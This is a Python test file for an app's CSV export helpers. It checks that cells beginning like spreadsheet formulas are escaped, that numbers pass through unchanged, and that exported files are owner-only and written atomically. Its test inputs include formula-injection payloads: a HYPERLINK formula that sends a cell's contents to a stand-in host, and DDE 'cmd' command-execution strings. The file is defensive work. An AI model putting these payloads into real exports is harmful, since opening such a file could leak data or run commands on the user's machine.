"""Files the app writes: owner-only, atomic, and never carrying a live spreadsheet formula."""

from __future__ import annotations

import csv
import io
import stat
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from amtui.store.files import FORMULA_STARTS, safe_cell, write_private


def _cells(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("cell", [
    "=1+1", '=HYPERLINK("http://x.example/?"&A1,"Click")', "+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)", "\t=1+1", "=", "+", "-", "@", "\t", "-inf", "-nan", "+Infinity", "- 1", "-1 ",
    "-1,5", "-٣", "-1e5x"])
def test_a_cell_that_begins_like_a_formula_is_written_as_text(cell):
    assert safe_cell(cell) == "'" + cell


def test_a_carriage_return_is_a_formula_start_and_inside_a_cell_a_newline():
    assert safe_cell("\r=1+1") == "'\n=1+1" and safe_cell("\r") == "'\n"
    assert safe_cell("line 1\r\nline 2\rline 3") == "line 1\nline 2\nline 3"


def test_a_carriage_return_cannot_start_a_row_with_a_formula(tmp_path):
    # csv.writer quotes a cell holding "\n" but not one holding a bare "\r"
    out = write_private(tmp_path / "out.csv", [["x\r=cmd|' /C calc'!A0", "y"]])
    assert _cells(out) == [["x\n=cmd|' /C calc'!A0", "y"]]


@pytest.mark.parametrize("cell", [
    0, 3, -2, -0.5, 1e300, -1e300, True, None, "-1", "-0.5", "+3", "-1e3", "2", "", "Anne",
    "O'Neill", "Smith-Jones", "5w+", "St 2 Developing", "a=b", " =1+1"])
def test_numbers_and_ordinary_text_are_left_alone(cell):
    assert safe_cell(cell) == cell


def test_minus_infinity_is_not_a_number_a_spreadsheet_reads():
    assert safe_cell(float("-inf")) == "'-inf"
    assert safe_cell(float("inf")) == "inf" and safe_cell(float("nan")) == "nan"


def test_other_values_are_written_as_their_text():
    class Odd:
        def __str__(self) -> str:
            return "=1+1"

    assert safe_cell(Odd()) == "'=1+1"


def test_write_private_neutralises_every_formula_prefix_and_keeps_numbers(tmp_path):
    out = write_private(tmp_path / "exports" / "attitude.csv", [
        ["UPN", "Name", "Gap", "Comment"],
        ["A123456789012", "=HYPERLINK(\"x\")", -1, "+44 7700 900000"],
        ["A123456789013", "@me", "-1", "\tindented"],
        ["A123456789014", "-Anne", -0.5, "\r=2"]])
    assert _cells(out) == [
        ["UPN", "Name", "Gap", "Comment"],
        ["A123456789012", "'=HYPERLINK(\"x\")", "-1", "'+44 7700 900000"],
        ["A123456789013", "'@me", "-1", "'\tindented"],
        ["A123456789014", "'-Anne", "-0.5", "'\n=2"]]


def test_write_private_is_owner_only(tmp_path):
    out = write_private(tmp_path / "new" / "roster.csv", [["a"], ["=b"]])
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert stat.S_IMODE(out.parent.stat().st_mode) == 0o700
    assert list(tmp_path.joinpath("new").iterdir()) == [out]  # no temp file left beside it


def _plain_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return text.isascii() and text == text.strip() and text.lower().lstrip("+-") not in \
        {"inf", "infinity", "nan"}


@given(st.lists(st.lists(st.text() | st.integers() | st.floats(), max_size=5), max_size=5))
def test_no_written_cell_begins_like_a_formula_unless_it_is_a_number(tmp_path_factory, rows):
    out = write_private(tmp_path_factory.mktemp("csv") / "out.csv", rows)
    for row, written in zip(rows, _cells(out), strict=True):
        for cell, text in zip(row, written, strict=True):
            assert not text.startswith(FORMULA_STARTS) or _plain_number(text)
            if isinstance(cell, str):
                cell = cell.replace("\r\n", "\n").replace("\r", "\n")
                assert text in (cell, "'" + cell)
            else:
                assert text.removeprefix("'") == str(cell)
